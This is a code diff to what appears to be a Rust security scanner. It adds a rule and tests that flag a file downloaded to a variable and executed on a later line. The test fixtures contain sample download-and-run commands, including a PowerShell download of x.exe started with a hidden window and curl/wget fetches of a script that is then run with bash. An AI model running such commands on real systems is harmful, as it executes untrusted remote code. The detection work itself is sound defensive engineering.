@@ -112,9 +112,6 @@ pub(super) fn patterns() -> Vec<String> {
 pub(super) fn check(seg: &Segment<'_>, sink: &mut Sink<'_>) {
     let p = &*PATTERNS;
     let s = seg.text();
-    if !ANY.is_match(s) {
-        return;
-    }
     // A vendor's own installer from the vendor's own address (see
     // `vendor_installer`): kept, at low severity, naming the vendor.
     // The pattern named with no address at all (`curl ... | sh` in a
@@ -128,6 +125,25 @@ pub(super) fn check(seg: &Segment<'_>, sink: &mut Sink<'_>) {
         Some(n) => sink.add_match_lowered(RuleId::DownloadExec, range, Severity::Low, n.clone()),
         None => sink.add_match(RuleId::DownloadExec, range),
     };
+    // A download to a file named by a variable, run by a later line.
+    for c in DOWNLOAD_TO_VARIABLE.captures_iter(s) {
+        let (Some(all), Some(var)) = (c.get(0), c.name("var").or(c.name("shvar"))) else { continue };
+        let powershell = c.name("var").is_some();
+        if let Some(run_line) = runs_later(seg, sink, var.as_str(), powershell) {
+            let range = seg.abs(all.range());
+            let at = range.start;
+            let (txt, lines) = (sink.text, sink.lines);
+            let excerpt =
+                move || format!("run on line {run_line}: {}", crate::text::excerpt(txt, lines, range.clone()));
+            match &note {
+                Some(n) => sink.add_lowered(RuleId::DownloadExec, at, excerpt, Severity::Low, n.clone()),
+                None => sink.add(RuleId::DownloadExec, at, excerpt),
+            }
+        }
+    }
+    if !ANY.is_match(s) {
+        return;
+    }
     for c in p.pipe.captures_iter(s) {
         let (Some(all), Some(interp)) = (c.get(0), c.name("interp")) else { continue };
         if runs_stdin(interp.as_str(), &s[interp.end()..]) {
@@ -156,6 +172,43 @@ pub(super) fn check(seg: &Segment<'_>, sink: &mut Sink<'_>) {
             add(sink, seg.abs(all.start()..rest.start() + end));
         }
     }
+}
+
+/// A download whose output file is a variable: PowerShell's
+/// `Invoke-WebRequest … -OutFile $o`, `.DownloadFile($u, $o)`, and
+/// `curl -o "$f" …` / `wget -O "$f" …`.
+static DOWNLOAD_TO_VARIABLE: LazyLock<Regex> = LazyLock::new(|| {
+    Regex::new(concat!(
+        r#"(?i)(?:(?-u:\b)(?:iwr|invoke-webrequest|curl|wget|irm|invoke-restmethod|start-bitstransfer)(?-u:\b)[^|;\n]*?-(?:outfile|destination)[ \t]+|downloadfile\([^,;\n]*,[ \t]*)["']?\$(?P<var>[A-Za-z_][A-Za-z0-9_]*)(?-u:\b)"#,
+        r#"|(?-u:\b)(?:curl(?:[ \t]+-[A-Za-z-]+)*[ \t]+(?:-[A-Za-z]*o|--output)|wget(?:[ \t]+-[A-Za-z-]+)*[ \t]+(?:-[A-Za-z]*O|--output-document))[ \t=]+["']?\$\{?(?P<shvar>[A-Za-z_][A-Za-z0-9_]*)\}?"#
+    ))
+    .unwrap()
+});
+
+/// Most bytes after a download to a variable searched for the run.
+const RUN_LATER_WINDOW: usize = 4 * 1024;
+
+/// The line (1-based) where the file held by `var` is run after the
+/// segment: `Start-Process $o`, `& $o`, `Invoke-Item $o`; `bash "$f"`,
+/// `sh $f`, `"$f"` as a command, `chmod +x "$f" && "$f"`.
+fn runs_later(seg: &Segment<'_>, sink: &Sink<'_>, var: &str, powershell: bool) -> Option<usize> {
+    let whole = sink.text;
+    let start = seg.abs(0..0).start;
+    let end = crate::text::floor_char_boundary(whole, (start + seg.text().len() + RUN_LATER_WINDOW).min(whole.len()));
+    let window = &whole[start..end];
+    let v = regex::escape(var);
+    let pattern = if powershell {
+        format!(
+            r#"(?i)(?:(?-u:\b)start-process(?:[ \t]+-filepath)?|(?-u:\b)invoke-item|(?:^|[;\s(])&)[ \t]+["']?\${v}(?-u:\b)"#
+        )
+    } else {
+        format!(
+            r#"(?m)(?:(?-u:\b)(?:bash|sh|zsh|dash|ksh|source|python3?|perl|ruby|node|exec)[ \t]+|^[ \t]*|&&[ \t]*|;[ \t]*|(?-u:\b)(?:then|do)[ \t]+)["']?\$\{{?{v}\}}?["']?(?:[ \t]|$)"#
+        )
+    };
+    let re = Regex::new(&pattern).ok()?;
+    let m = re.find(window)?;
+    Some(sink.lines.line_of(start + m.start()))
 }
 
 /// Whether every operand of every download command on the line is a
@@ -512,6 +565,25 @@ mod tests {
             assert_eq!(f.len(), 1, "{t}");
             assert_eq!(f[0].severity(), Severity::High, "{t}");
             assert_eq!(f[0].lowered_to, None, "{t}");
+        }
+    }
+
+    #[test]
+    fn r_rule_5_a_download_to_a_variable_run_on_a_later_line() {
+        for t in [
+            "$o = Join-Path $env:TEMP \"x.exe\"\nInvoke-WebRequest -Uri $u -OutFile $o -UseBasicParsing\nStart-Process -FilePath $o -WindowStyle Hidden\n",
+            "$c = New-Object Net.WebClient\n$c.DownloadFile($u, $p)\n& $p\n",
+            "f=$(mktemp)\ncurl -fsSL -o \"$f\" https://x.example/i.sh\nbash \"$f\"\n",
+            "tmp=$(mktemp)\nwget -q -O \"${tmp}\" https://x.example/i.sh\nchmod +x \"$tmp\" && \"$tmp\"\n",
+        ] {
+            assert_eq!(lines(t), vec![2], "{t}");
+        }
+        for t in [
+            "Invoke-WebRequest -Uri $u -OutFile $o\nGet-FileHash $o\n",
+            "curl -fsSL -o \"$f\" https://x.example/data.json\njq . \"$f\"\n",
+            "curl -o \"$f\" https://x.example/a.tgz\ntar xzf \"$f\"\n",
+        ] {
+            assert!(lines(t).is_empty(), "{t}");
         }
     }
 
